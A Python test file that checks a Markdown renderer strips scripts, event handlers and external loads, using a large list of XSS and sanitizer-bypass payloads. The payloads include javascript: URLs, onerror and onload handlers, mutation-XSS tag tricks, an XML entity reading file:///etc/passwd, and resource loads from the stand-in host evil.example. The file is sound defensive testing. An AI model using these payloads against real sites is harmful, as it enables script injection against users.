"""No known payload gets scripts, handlers or external loads through Markdown."""

import re

from turbohtml import etree

from articles.content.markdown import render_markdown

JAVASCRIPT = [
    "javascript:alert(1)",
    "JaVaScRiPt:alert(1)",
    "javascript&colon;alert(1)",
    "javascript&#58;alert(1)",
    "&#x6A;&#x61;vascript:alert(1)",
    "java\tscript:alert(1)",
    "java&NewLine;script:alert(1)",
    "\x01javascript:alert(1)",
    "vbscript:msgbox(1)",
    "data:text/html,<script>alert(1)</script>",
    "blob:https://evil.example/1",
    "file:///etc/passwd",
    "view-source:javascript:alert(1)",
]
HANDLERS = ["onerror", "onclick", "ONFOCUS", "onanimationend"]
TAGS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x00>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<svg><script>alert(1)</script></svg>",
    "<svg/onload=alert(1)>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg></svg>#x'>",
    "<svg><foreignObject><iframe src=//evil.example></foreignObject></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table>",
    "<math><mi//xlink:href='data:x,<script>alert(4)</script>'>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<frame src=//evil.example>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=//evil.example/x.swf>",
    "<applet code=x.class></applet>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=//evil.example><input name=password><button>Go</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<video src=//evil.example/x><source src=//evil.example/y></video>",
    "<audio src=//evil.example/x onerror=alert(1)>",
    "<picture><source srcset=//evil.example/x><img src=/media/x></picture>",
    "<img src=/media/x srcset='//evil.example/x 2x'>",
    "<img src=`javascript:alert(1)`>",
    "<img/src=x/onerror=alert(1)>",
    '<img """><script>alert(1)</script>">',
    "<img alt='`><img src=x onerror=alert(1)>'>",
    "<body background=//evil.example/x onload=alert(1)>",
    "<table background=//evil.example/x><tr><td background=//evil.example/y>x</td></tr></table>",
    "<div style='background:url(//evil.example/x)'>x</div>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<details open ontoggle=alert(1)>x</details>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "<!DOCTYPE x [<!ENTITY y SYSTEM 'file:///etc/passwd'>]>&y;",
    "<a href='/x' target=_blank onclick=alert(1) ping=//evil.example>x</a>",
    "<q cite=javascript:alert(1)>x</q>",
    "<x-widget onconnected=alert(1)>x</x-widget>",
    "<p id='a\" onclick=alert(1) x=\"'>x</p>",
]
MARKDOWN = [
    "text {: onclick=alert(1) }",
    "# Heading {: onmouseover=alert(1) style=color:red }",
    '[x](/a "title\\" onclick=alert(1)")',
    "[x][1]\n\n[1]: javascript:alert(1) 'x'",
    "<javascript:alert(1)>",
    '![x" onerror="alert(1)](/media/x)',
    '![x](/media/x" onerror="alert(1))',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "[^x]\n\n[^x]: <script>alert(1)</script>",
    '[^x" onclick="alert(1)]\n\n[^x" onclick="alert(1)]: note',
    "| a |\n| - |\n| <img src=x onerror=alert(1)> |",
    "> <svg/onload=alert(1)>",
]
PAYLOADS = [
    *[f"[a link]({address})" for address in JAVASCRIPT],
    *[f'<a href="{address}">a link</a>' for address in JAVASCRIPT],
    *[f'<img src="/media/x" {handler}="alert(1)">' for handler in HANDLERS],
    *[f"<p {handler}=alert(1)>text</p>" for handler in HANDLERS],
    *TAGS,
    *MARKDOWN,
]
CONTROLS = "".join(map(chr, range(0x21)))
LOADING = {"src", "srcset", "data", "poster", "background", "action", "formaction", "ping", "cite"}
REFUSED_TAGS = {
    *("script", "style", "iframe", "frame", "object", "embed", "applet", "link", "meta", "base"),
    *("form", "input", "button", "select", "textarea", "svg", "math", "video", "audio", "source"),
    *("template", "noscript", "title", "portal", "picture", "track", "area", "dialog"),
}


def dangers(markup):
    """What would be dangerous to a browser in some HTML."""
    tree = etree.fragment_fromstring(markup, create_parent=True)
    for element in tree.iter():
        if element.tag in REFUSED_TAGS:
            yield f"<{element.tag}>"
        for name, value in element.attrib.items():
            # As the URL standard reads an address: ends trimmed, tabs and line ends dropped.
            bare = re.sub(r"[\t\n\r]", "", str(value).strip(CONTROLS)).lower()
            if str(name).lower().startswith("on") or name in ("style", "srcdoc", "target", "is"):
                yield f"{name}={value}"
            scheme = re.match(r"(?!https?:|mailto:|tel:|sms:)[a-z][a-z0-9+.-]*:", bare)
            if name in ("href", "xlink:href") and scheme:
                yield f"{name}={value}"
            if name in LOADING and (not bare.startswith("/") or bare.startswith(("//", "/\\"))):
                yield f"{name}={value}"


def test_the_detector_finds_each_kind():
    assert list(dangers("<script>1</script>")) == ["<script>"]
    assert list(dangers('<p onclick="x">')) == ["onclick=x"]
    assert list(dangers('<a href="java\tscript:x">')) == ["href=java\tscript:x"]
    assert list(dangers('<img src="//evil.example/x">')) == ["src=//evil.example/x"]


def test_nothing_dangerous_survives():
    frames = ["Lead\n\n{}\n\nend", "- item\n\n    {}", "> {}"]
    survived = {}
    for number, payload in enumerate(PAYLOADS):
        for frame in ("{}", frames[number % len(frames)]):
            text = frame.replace("{}", payload)
            survived[text] = list(dangers(render_markdown(text).html))

    assert {text: found for text, found in survived.items() if found} == {}
